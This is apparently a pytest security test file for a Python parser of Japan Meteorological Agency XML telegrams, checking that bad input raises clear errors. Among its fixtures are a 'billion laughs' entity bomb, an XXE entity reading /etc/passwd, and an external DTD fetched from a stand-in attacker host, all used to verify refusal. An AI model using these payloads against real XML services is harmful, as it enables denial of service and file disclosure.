"""Security and bad input: everything fails with a clear JmaParseError subclass."""

from __future__ import annotations

import contextlib
import random
import re
import time
from datetime import timedelta
from pathlib import Path

import pytest

from jmaparse import (
    MAX_BYTES,
    MAX_MARKUP,
    MAX_SERIAL,
    EarthquakeTelegram,
    EncodingError,
    ForbiddenXml,
    Intensity,
    InvalidTelegram,
    JmaParseError,
    LimitExceeded,
    MalformedXml,
    OutOfRange,
    UnsupportedTelegram,
    parse,
)

TEMPLATE = """<?xml version="1.0" encoding="{enc}"?>
<Report xmlns="http://xml.kishou.go.jp/jmaxml1/" xmlns:jmx="http://xml.kishou.go.jp/jmaxml1/">
<Control><Title>{title}</Title><DateTime>{control_dt}</DateTime><Status>{status}</Status>
<EditorialOffice>気象庁本庁</EditorialOffice><PublishingOffice>気象庁</PublishingOffice></Control>
<Head xmlns="http://xml.kishou.go.jp/jmaxml1/informationBasis1/"><Title>震度速報</Title>
<ReportDateTime>2024-01-01T16:12:00+09:00</ReportDateTime>
<TargetDateTime>2024-01-01T16:10:00+09:00</TargetDateTime><EventID>20240101161022</EventID>
<InfoType>{info_type}</InfoType><Serial>{serial}</Serial><InfoKind>震度速報</InfoKind>
<InfoKindVersion>1.0_0</InfoKindVersion>
<Headline><Text>１日１６時１０分ころ、地震による強い揺れを感じました。</Text></Headline></Head>
<Body xmlns="http://xml.kishou.go.jp/jmaxml1/body/seismology1/"><Intensity><Observation>
<MaxInt>7</MaxInt><Pref><Name>石川県</Name><Code>17</Code><MaxInt>7</MaxInt>
<Area><Name>石川県能登</Name><Code>390</Code><MaxInt>7</MaxInt></Area></Pref>
</Observation></Intensity></Body></Report>
"""


def doc(**overrides: str) -> str:
    values = {
        "enc": "UTF-8",
        "title": "震度速報",
        "control_dt": "2024-01-01T07:12:00Z",
        "status": "通常",
        "info_type": "発表",
        "serial": "1",
    }
    values.update(overrides)
    return TEMPLATE.format(**values)


def check_minimal(t: object) -> None:
    assert isinstance(t, EarthquakeTelegram)
    assert t.max_intensity is Intensity.SEVEN
    assert [(a.code, a.name) for a in t.areas] == [("390", "石川県能登")]
    assert t.headline_text.startswith("１日１６時１０分ころ")


def test_minimal_document_bytes_and_str() -> None:
    check_minimal(parse(doc().encode("utf-8")))
    check_minimal(parse(doc()))  # str input, declaration ignored


@pytest.mark.parametrize("encoding", ["Shift_JIS", "EUC-JP", "CP932", "ISO-2022-JP", "UTF-16"])
def test_other_text_encodings_are_refused(encoding: str) -> None:
    """JMA publishes UTF-8 only; anything else is a documented EncodingError, never decoded."""
    with pytest.raises(EncodingError, match="only UTF-8"):
        parse(doc(enc=encoding).encode(encoding))


# Python codecs that are no XML encoding at all: bytes-to-bytes transforms, a codec that always
# fails, and one whose decoder is quadratic. Each used to escape as LookupError/UnicodeError or
# take seconds.
NON_TEXT_CODECS = ["rot13", "hex", "base64", "zlib", "bz2", "uu", "quopri", "undefined", "punycode"]


@pytest.mark.parametrize("codec", NON_TEXT_CODECS)
def test_non_text_codecs_are_a_documented_error(codec: str) -> None:
    with pytest.raises(EncodingError, match="only UTF-8"):
        parse(doc(enc=codec).encode("utf-8"))


def test_punycode_on_a_large_body_is_refused_before_decoding() -> None:
    """A 400 KB body declared punycode took 12.6 s to decode (quadratic); now it is refused
    without being decoded, in the time it takes to read the prolog."""
    data = doc(enc="punycode").encode("utf-8") + b"<!--" + b"a" * 400_000 + b"-->"
    started = time.perf_counter()
    with pytest.raises(EncodingError):
        parse(data)
    assert time.perf_counter() - started < 0.5


def test_utf16_bom_is_refused() -> None:
    with pytest.raises(EncodingError, match="BOM"):
        parse(doc(enc="UTF-16").encode("utf-16"))


def test_utf8_declarations_are_accepted() -> None:
    for enc in ("UTF-8", "utf-8", "utf8"):
        check_minimal(parse(doc(enc=enc).encode("utf-8")))


def test_utf8_with_bom() -> None:
    check_minimal(parse(b"\xef\xbb\xbf" + doc().encode("utf-8")))


def test_unknown_encoding() -> None:
    with pytest.raises(EncodingError, match="only UTF-8"):
        parse(doc(enc="x-klingon").encode("utf-8"))


def test_bytes_not_in_declared_encoding() -> None:
    with pytest.raises(MalformedXml):  # invalid UTF-8 under a UTF-8 declaration
        parse(doc().encode("utf-8").replace("石川県".encode(), b"\xff\xfe\xfd"))


def test_lone_surrogate_in_str_input() -> None:
    with pytest.raises(MalformedXml):
        parse(doc().replace("石川県能登", "\udcff"))


def test_input_over_the_size_limit() -> None:
    data = doc().encode("utf-8")
    padded = data.replace(b"</Report>", b"<!--" + b"x" * MAX_BYTES + b"--></Report>")
    with pytest.raises(LimitExceeded, match="larger than"):
        parse(padded)


@pytest.mark.parametrize(
    ("override", "message"),
    [
        ({"serial": "99999999999999999999"}, "Serial outside"),
        ({"serial": str(MAX_SERIAL + 1)}, "Serial outside"),
        ({"serial": "-1"}, "Serial outside"),
        ({"serial": "9" * 5000}, "Serial is not an integer"),
        ({"control_dt": "0001-01-01T00:00:00+09:00"}, "outside the years"),
        ({"control_dt": "9999-12-31T23:59:59-09:00"}, "outside the years"),
    ],
)
def test_out_of_range_values(override: dict[str, str], message: str) -> None:
    with pytest.raises(InvalidTelegram, match=message):
        parse(doc(**override))


def test_largest_serial_is_accepted() -> None:
    assert parse(doc(serial=str(MAX_SERIAL))).serial == MAX_SERIAL


def test_out_of_range_is_documented_as_invalid_telegram() -> None:
    with pytest.raises(OutOfRange):
        parse(doc(serial="99999999999999999999"))
    with pytest.raises(OutOfRange):  # a report time that cannot be converted to UTC
        parse(doc().replace("2024-01-01T16:12:00+09:00", "0001-01-01T00:00:00+09:00", 1))


def test_infinite_magnitude_is_out_of_range(samples_dir: Path) -> None:
    data = (samples_dir / "32-35_07_06_240613_VXSE53.xml").read_bytes()
    mutated = re.sub(rb"(<jmx_eb:Magnitude[^>]*>)[^<]*<", rb"\g<1>1e999<", data, count=1)
    assert mutated != data
    with pytest.raises(OutOfRange, match="finite"):
        parse(mutated)


def test_huge_coordinate_is_dropped_not_an_overflow(samples_dir: Path) -> None:
    data = (samples_dir / "32-35_07_06_240613_VXSE53.xml").read_bytes()
    mutated = re.sub(
        rb"(<jmx_eb:Coordinate[^>]*>)[^<]*<", b"\\g<1>+" + b"9" * 400 + b"+135.0-10000/<", data
    )
    assert mutated != data
    t = parse(mutated)
    assert isinstance(t, EarthquakeTelegram)
    assert t.earthquake is not None and t.earthquake.hypocentre is not None
    coordinate = t.earthquake.hypocentre.coordinate
    assert coordinate is not None and coordinate.latitude is None and coordinate.depth_km == 10


def test_deep_nesting_is_a_documented_error_or_parses() -> None:
    deep = b"<a>" * 200_000 + b"</a>" * 200_000
    data = doc().encode("utf-8").replace(b"<Body ", b"<X>" + deep + b"</X><Body ", 1)
    started = time.perf_counter()
    with contextlib.suppress(JmaParseError):
        parse(data)
    assert time.perf_counter() - started < 1.0


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<Report xmlns="http://xml.kishou.go.jp/jmaxml1/"><Control><Title>&lol9;</Title></Control></Report>
"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE Report [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Report xmlns="http://xml.kishou.go.jp/jmaxml1/"><Control><Title>&xxe;</Title></Control></Report>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Report SYSTEM "http://attacker.invalid/evil.dtd">
<Report xmlns="http://xml.kishou.go.jp/jmaxml1/"/>
"""


def test_billion_laughs_refused_without_expansion() -> None:
    start = time.perf_counter()
    with pytest.raises(ForbiddenXml) as info:
        parse(BILLION_LAUGHS)
    assert time.perf_counter() - start < 1.0
    assert "lollollol" not in str(info.value)


def test_external_entity_refused() -> None:
    with pytest.raises(ForbiddenXml) as info:
        parse(XXE)
    assert "root:" not in str(info.value)


def test_external_dtd_refused() -> None:
    with pytest.raises(ForbiddenXml):
        parse(EXTERNAL_DTD)


def test_entity_in_str_input_refused() -> None:
    with pytest.raises(ForbiddenXml):
        parse(XXE.decode())


@pytest.mark.parametrize(
    "data",
    [b"", b"   \n", b"not xml at all", b"<Report>", b"<a><b></a>", b"\x00\x01\x02"],
    ids=["empty", "blank", "text", "unclosed", "mismatched", "binary"],
)
def test_malformed(data: bytes) -> None:
    with pytest.raises(MalformedXml):
        parse(data)


def test_truncated() -> None:
    data = doc().encode("utf-8")
    for cut in (10, len(data) // 3, len(data) // 2, len(data) - 12):
        with pytest.raises(MalformedXml, match="malformed or truncated"):
            parse(data[:cut])


def test_wrong_root_namespace() -> None:
    data = doc().replace('xmlns="http://xml.kishou.go.jp/jmaxml1/"', 'xmlns="urn:example"', 1)
    with pytest.raises(InvalidTelegram, match="not a JMA telegram"):
        parse(data)


def test_wrong_head_namespace() -> None:
    data = doc().replace("jmaxml1/informationBasis1/", "jmaxml1/somethingElse/")
    with pytest.raises(InvalidTelegram, match="Head"):
        parse(data)


def test_missing_body() -> None:
    data = doc()
    data = data[: data.index("<Body")] + "</Report>"
    with pytest.raises(InvalidTelegram, match="Body"):
        parse(data)


def test_unknown_telegram_type() -> None:
    with pytest.raises(UnsupportedTelegram) as info:
        parse(doc(title="謎の情報"))
    assert info.value.title == "謎の情報"
    assert isinstance(info.value, JmaParseError)


@pytest.mark.parametrize(
    ("override", "message"),
    [
        ({"status": "本番"}, "Control/Status"),
        ({"info_type": "発表予定"}, "InfoType"),
        ({"control_dt": "2024-01-01T07:12:00"}, "without UTC offset"),
        ({"control_dt": "yesterday"}, "not an ISO 8601"),
        ({"control_dt": ""}, "Control/DateTime"),
        ({"serial": "first"}, "Serial"),
    ],
)
def test_invalid_header_values(override: dict[str, str], message: str) -> None:
    with pytest.raises(InvalidTelegram, match=message):
        parse(doc(**override))


def test_non_utc_control_datetime_is_normalised() -> None:
    t = parse(doc(control_dt="2024-01-01T16:12:00+09:00"))
    assert t.control_datetime.utcoffset() == timedelta(0)
    assert t.control_datetime.hour == 7


def test_status_flags() -> None:
    assert parse(doc(status="訓練")).is_drill
    assert parse(doc(status="試験")).is_test
    assert parse(doc()).is_real


def test_delayed_info_type() -> None:
    assert parse(doc(info_type="遅延")).info_type.value == "遅延"


def test_wrong_input_type() -> None:
    with pytest.raises(TypeError):
        parse(42)  # type: ignore[arg-type]


def test_fuzzed_samples_only_raise_jma_errors(samples_dir: Path) -> None:
    rng = random.Random(20261128)
    names = [
        "32-35_07_06_240613_VXSE53.xml",
        "32-39_11_02_250206_VTSE41.xml",
        "15_16_03_241226_VPWW55.xml",
        "45_01_01_200522_VFVO50.xml",
        "77_01_10_240613_VXSE45.xml",
        "81_01_01_250630_VPWP50.xml",
    ]
    outcomes = {"ok": 0, "error": 0}
    for name in names:
        data = (samples_dir / name).read_bytes()
        for _ in range(60):
            mutated = bytearray(data)
            if rng.random() < 0.5:
                mutated = mutated[: rng.randrange(len(mutated))]
            else:
                for _ in range(rng.randint(1, 8)):
                    pos = rng.randrange(len(mutated))
                    mutated[pos] = rng.choice(b"<>/&\"'0123456789-+:TZ \x00\xff")
            try:
                parse(bytes(mutated))
                outcomes["ok"] += 1
            except JmaParseError:
                outcomes["error"] += 1
    assert outcomes["error"] > 0 and sum(outcomes.values()) == 360


def test_reading_stops_at_the_time_limit(
    samples_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The deadline is checked between chunks: with no time at all, a real telegram larger
    than one chunk is a LimitExceeded, not a parse that runs on."""
    from jmaparse import _xml

    data = (samples_dir / "15_11_02_150916_VPWW54.xml").read_bytes()
    assert len(data) > _xml.CHUNK
    monkeypatch.setattr(_xml, "MAX_SECONDS", 0.0)
    with pytest.raises(LimitExceeded, match="longer than"):
        parse(data)


def test_too_much_markup_is_refused_before_reading() -> None:
    data = doc().encode("utf-8").replace(b"</Report>", b"<x/>" * (MAX_MARKUP + 1) + b"</Report>")
    started = time.perf_counter()
    with pytest.raises(LimitExceeded, match="tags"):
        parse(data)
    assert time.perf_counter() - started < 0.5
